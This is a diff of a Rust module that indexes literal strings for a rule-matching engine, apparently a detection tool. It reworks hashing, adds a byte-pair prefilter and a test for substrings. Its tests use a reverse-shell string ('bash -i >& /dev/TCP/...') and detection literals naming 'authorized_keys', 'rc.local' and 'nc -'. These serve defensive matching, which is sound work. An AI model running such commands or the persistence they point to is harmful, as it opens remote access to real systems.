@@ -1,9 +1,10 @@
 //! Looks up which literals a text has, for all rules at once.
 //!
-//! Literals are known by their hashes only. A collision costs a look at a condition and never a match, since every
+//! Those that are whole texts, beginnings or ends are known by their hashes only. A collision costs a look at a condition and never a match, since every
 //! candidate's condition is evaluated; so hashing forgets the case of letters as well.
 
-use super::require::{GRAM, Literal, Place};
+use super::inside::Inside;
+use super::require::{Literal, Place};
 
 /// A set of entries of the index, a bit each.
 pub(super) type Bits = Vec<u64>;
@@ -11,90 +12,106 @@ pub(super) type Bits = Vec<u64>;
 /// The literals of one field.
 #[derive(Clone, Debug, Default)]
 pub(super) struct Literals {
+    wholes: Table,
     ends: Table,
-    /// The lengths of beginnings and ends that are looked up.
-    fronts: Vec<usize>,
-    backs: Vec<usize>,
-    inside: Table,
-    /// A bit for each window that begins a look into `inside`.
-    windows: Option<Box<[u64; WINDOW_WORDS]>>,
-    has_whole: bool,
+    fronts: Cuts,
+    backs: Cuts,
+    inside: Option<Box<Inside>>,
 }
-
-/// How many words the filter of windows has. Windows of a text are many: it is made to be asked fast.
-const WINDOW_WORDS: usize = 128;
 
 /// Beginnings and ends are cut to one of these lengths, so that a text is hashed a few times and not once a literal.
 const CUTS: [usize; 4] = [16, 8, 4, 2];
+
+/// The lengths of beginnings or ends that are looked up.
+#[derive(Clone, Debug, Default)]
+struct Cuts {
+    lengths: Vec<usize>,
+    /// A bit for each pair of bytes at the very end, by [`pair_bit`]: most texts have another.
+    pairs: [u64; 4],
+}
 
 impl Literals {
     /// `literals` of the field, each with the entry that requires it.
     pub(super) fn new(literals: &[(usize, &Literal)]) -> Self {
         let mut this = Self::default();
+        let mut wholes = Vec::new();
         let mut ends = Vec::new();
         let mut inside = Vec::new();
         for (entry, literal) in literals {
             let text = literal.text.as_bytes();
             let cut = CUTS.into_iter().find(|cut| *cut <= text.len()).unwrap_or(text.len());
             match literal.place {
-                Place::Whole => {
-                    this.has_whole = true;
-                    ends.push((hash(text, Place::Whole), *entry));
-                }
+                Place::Whole => wholes.push((hash(text, Place::Whole), *entry)),
                 Place::Front => {
-                    this.fronts.push(cut);
+                    this.fronts.add(cut, text.first_chunk());
                     ends.push((hash(text.get(..cut).unwrap_or(text), Place::Front), *entry));
                 }
                 Place::Back => {
-                    this.backs.push(cut);
+                    this.backs.add(cut, text.last_chunk());
                     ends.push((hash(text.get(text.len() - cut..).unwrap_or(text), Place::Back), *entry));
                 }
-                Place::Inside => {
-                    let gram = rarest(text);
-                    let (word, bit) = window_place(gram);
-                    let windows = this.windows.get_or_insert_with(|| Box::new([0; WINDOW_WORDS]));
-                    if let Some(word) = windows.get_mut(word) {
-                        *word |= bit;
-                    }
-                    inside.push((hash_gram(gram), *entry));
-                }
+                Place::Inside => inside.push((*entry, text)),
             }
         }
-        for lengths in [&mut this.fronts, &mut this.backs] {
-            lengths.sort_unstable();
-            lengths.dedup();
-        }
+        this.wholes = Table::new(wholes);
         this.ends = Table::new(ends);
-        this.inside = Table::new(inside);
+        this.inside = Inside::new(&inside).map(Box::new);
         this
     }
 
     /// Sets the bits of the entries of which `text` has a literal.
+    #[inline]
     pub(super) fn find(&self, text: &str, found: &mut [u64]) {
         let text = text.as_bytes();
-        if self.has_whole {
-            self.ends.find(hash(text, Place::Whole), found);
+        if !self.wholes.is_empty() {
+            self.wholes.find(hash(text, Place::Whole), found);
         }
-        for length in &self.fronts {
-            if let Some(front) = text.get(..*length) {
-                self.ends.find(hash(front, Place::Front), found);
-            }
-        }
-        for length in &self.backs {
-            if let Some(back) = text.len().checked_sub(*length).and_then(|start| text.get(start..)) {
-                self.ends.find(hash(back, Place::Back), found);
-            }
-        }
-        if let Some(windows) = &self.windows {
-            for window in text.windows(GRAM) {
-                let Some(&gram) = window.first_chunk() else { break };
-                let (word, bit) = window_place(gram);
-                if windows.get(word).is_some_and(|word| word & bit != 0) {
-                    self.inside.find(hash_gram(gram), found);
+        if self.fronts.may_have(text.first_chunk()) {
+            for length in &self.fronts.lengths {
+                if let Some(front) = text.get(..*length) {
+                    self.ends.find(hash(front, Place::Front), found);
                 }
             }
         }
+        if self.backs.may_have(text.last_chunk()) {
+            for length in &self.backs.lengths {
+                if let Some(back) = text.len().checked_sub(*length).and_then(|start| text.get(start..)) {
+                    self.ends.find(hash(back, Place::Back), found);
+                }
+            }
+        }
+        if let Some(inside) = &self.inside {
+            inside.find(text, found);
+        }
     }
+}
+
+impl Cuts {
+    /// Literals have two bytes and more.
+    fn add(&mut self, length: usize, pair: Option<&[u8; 2]>) {
+        if let Err(place) = self.lengths.binary_search(&length) {
+            self.lengths.insert(place, length);
+        }
+        let (word, bit) = pair_bit(pair.copied().unwrap_or_default());
+        if let Some(word) = self.pairs.get_mut(word) {
+            *word |= bit;
+        }
+    }
+
+    #[inline]
+    fn may_have(&self, pair: Option<&[u8; 2]>) -> bool {
+        pair.is_some_and(|pair| {
+            let (word, bit) = pair_bit(*pair);
+            self.pairs.get(word).is_some_and(|word| word & bit != 0)
+        })
+    }
+}
+
+/// Where the bit of a pair of bytes is, letters in whatever case.
+#[inline]
+fn pair_bit(pair: [u8; 2]) -> (usize, u64) {
+    let hash = (u32::from(u16::from_le_bytes(pair)) | 0x2020).wrapping_mul(0x9e37_79b1) >> 24;
+    ((hash >> 6) as usize, 1 << (hash & 63))
 }
 
 /// Hashes with the entries they stand for.
@@ -106,8 +123,23 @@ struct Table {
     hashes: Vec<u64>,
     /// For each place where its postings begin and end.
     ranges: Vec<(u32, u32)>,
-    /// Words of the set of entries, with the bits to set there.
-    postings: Vec<(u32, u64)>,
+    postings: Vec<Posting>,
+}
+
+/// A word of a set of entries, with the bits to set there.
+pub(super) type Posting = (u32, u64);
+
+/// What to set for `entries`, which ascend.
+pub(super) fn postings(entries: impl Iterator<Item = usize>) -> Vec<Posting> {
+    let mut postings: Vec<Posting> = Vec::new();
+    for entry in entries {
+        let (word, bit) = (index(entry / 64), 1 << (entry % 64));
+        match postings.last_mut() {
+            Some(last) if last.0 == word => last.1 |= bit,
+            _ => postings.push((word, bit)),
+        }
+    }
+    postings
 }
 
 impl Table {
@@ -128,16 +160,14 @@ impl Table {
         for group in pairs.chunk_by(|a, b| a.0 == b.0) {
             let Some(&(hash, _)) = group.first() else { continue };
             let start = index(table.postings.len());
-            for &(_, entry) in group {
-                let (word, bit) = (index(entry / 64), 1 << (entry % 64));
-                match table.postings.get_mut(start as usize..).and_then(<[_]>::last_mut) {
-                    Some(last) if last.0 == word => last.1 |= bit,
-                    _ => table.postings.push((word, bit)),
-                }
-            }
+            table.postings.extend(postings(group.iter().map(|(_, entry)| *entry)));
             table.put(hash, (start, index(table.postings.len())));
         }
         table
+    }
+
+    fn is_empty(&self) -> bool {
+        self.hashes.is_empty()
     }
 
     fn put(&mut self, hash: u64, range: (u32, u32)) {
@@ -201,58 +231,24 @@ fn index(number: usize) -> u32 {
 const FOLD: u64 = 0x2020_2020_2020_2020;
 const ODD: u64 = 0x9e37_79b9_7f4a_7c15;
 
-/// The hash of a text, letters in whatever case; never 0.
+/// The hash of a text, letters in whatever case; never 0. Of a long text only the length and both ends count.
 #[inline]
 fn hash(text: &[u8], place: Place) -> u64 {
-    let mut state = (text.len() as u64) << 8 | place as u64;
-    let mut rest = text;
-    while let Some((chunk, after)) = rest.split_first_chunk::<8>() {
-        if after.is_empty() {
-            break;
-        }
-        state = mix(state ^ (u64::from_le_bytes(*chunk) | FOLD));
-        rest = after;
-    }
-    // The last one to eight bytes; what overlaps counts twice, which does no harm.
-    let last = if let Some(chunk) = text.last_chunk::<8>() {
-        u64::from_le_bytes(*chunk)
-    } else if let (Some(front), Some(back)) = (rest.first_chunk::<4>(), rest.last_chunk::<4>()) {
-        u64::from(u32::from_le_bytes(*front)) << 32 | u64::from(u32::from_le_bytes(*back))
+    let (front, back) = if let (Some(front), Some(back)) = (text.first_chunk::<8>(), text.last_chunk::<8>()) {
+        (u64::from_le_bytes(*front), u64::from_le_bytes(*back))
+    } else if let (Some(front), Some(back)) = (text.first_chunk::<4>(), text.last_chunk::<4>()) {
+        (u64::from(u32::from_le_bytes(*front)), u64::from(u32::from_le_bytes(*back)))
     } else {
-        rest.iter().fold(0, |all, byte| all << 8 | u64::from(*byte))
+        (text.iter().fold(0, |all, byte| all << 8 | u64::from(*byte)), 0)
     };
-    mix(state ^ (last | FOLD)) | 1
-}
-
-/// Where the bit of a window is.
-#[inline]
-fn window_place(gram: [u8; GRAM]) -> (usize, u64) {
-    let hash = (u32::from_le_bytes(gram) | 0x2020_2020).wrapping_mul(0x9e37_79b1);
-    // Seven bits for the word, six for the bit.
-    ((hash >> 25) as usize, 1 << (hash >> 19 & 63))
-}
-
-#[inline]
-fn hash_gram(gram: [u8; GRAM]) -> u64 {
-    mix(u64::from(u32::from_le_bytes(gram)) | FOLD) | 1
+    let seed = (text.len() as u64) << 8 | place as u64;
+    mix(mix(front | FOLD ^ seed.rotate_left(40)) ^ (back | FOLD) ^ seed) | 1
 }
 
 #[inline]
 fn mix(state: u64) -> u64 {
     let product = state.wrapping_mul(ODD);
     product ^ product >> 29
-}
-
-/// The window of `text` that the fewest other texts will have.
-fn rarest(text: &[u8]) -> [u8; GRAM] {
-    let common = |byte: &u8| match byte {
-        b' ' | b'/' | b'-' | b'.' | b'e' => 8,
-        b'a' | b'i' | b'n' | b'o' | b'r' | b's' | b't' | b'l' => 5,
-        b'b' | b'c' | b'd' | b'm' | b'p' | b'u' | b'0' | b'1' => 3,
-        _ => 1,
-    };
-    let windows = text.windows(GRAM).min_by_key(|window| window.iter().map(common).sum::<u32>());
-    windows.and_then(<[u8]>::first_chunk).copied().unwrap_or_default()
 }
 
 #[cfg(test)]
@@ -295,6 +291,21 @@ mod tests {
         assert_eq!(found(&literals, "Python3"), [4, 5]);
         assert_eq!(found(&literals, "bash -i >& /dev/TCP/1.2.3.4/5"), [8]);
         assert_eq!(found(&literals, "ap"), [0_usize; 0]);
+    }
+
+    #[test]
+    fn a_literal_inside_is_found_at_every_place() {
+        let long: [(Place, &str); 2] = [(Place::Inside, "authorized_keys"), (Place::Inside, "rc.local")];
+        let with_short = [long[0], long[1], (Place::Inside, "nc -")];
+        for spaces in 0..40 {
+            let space = " ".repeat(spaces);
+            for literals in [&long[..], &with_short[..]] {
+                assert_eq!(found(literals, &format!("{space}AUTHORIZED_keys")), [0]);
+                assert_eq!(found(literals, &format!("{space}rc.locale")), [1]);
+                assert_eq!(found(literals, &format!("{space}rc.loca")), [0_usize; 0]);
+            }
+            assert_eq!(found(&with_short, &format!("{space}nc -{space}")), [2]);
+        }
     }
 
     #[test]
